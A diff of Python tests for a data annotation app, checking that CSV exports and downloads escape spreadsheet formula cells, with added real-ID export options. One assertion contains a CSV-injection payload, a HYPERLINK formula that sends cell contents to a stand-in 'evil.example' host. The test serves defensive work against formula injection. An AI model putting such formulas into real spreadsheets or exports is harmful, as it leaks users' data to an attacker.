@@ -152,7 +152,15 @@ def test_hostile_text_round_trips_through_csv_export_and_import_unchanged(tmp_pa
         "export_dataset", "--dataset", "hostile", "--format", "csv", "--output", str(out), stderr=io.StringIO()
     )
     call_command(
-        "export_ratings", "--dataset", "hostile", "--format", "csv", "--output", str(ratings_out), stderr=io.StringIO()
+        "export_ratings",
+        "--dataset",
+        "hostile",
+        "--format",
+        "csv",
+        "--real-ids",
+        "--output",
+        str(ratings_out),
+        stderr=io.StringIO(),
     )
     for path in (out, ratings_out):
         assert not [cell for cell in cells(path.read_text(encoding="utf-8")) if dangerous(cell)]
@@ -168,7 +176,7 @@ def test_downloaded_csvs_have_no_cell_a_spreadsheet_would_run(client, researcher
     client.force_login(researcher)
     found = {}
     for what in ("dataset", "ratings"):
-        response = client.get(reverse("annotation:dataset_download", args=[dataset.pk, what, "csv"]))
+        response = client.get(reverse("annotation:dataset_download", args=[dataset.pk, what, "csv"]) + "?ids=real")
         found[what] = cells(response.content.decode())
         assert not [cell for cell in found[what] if dangerous(cell)], what
     assert '\'=HYPERLINK("http://evil.example/steal?"&A1,"click")' in found["dataset"]
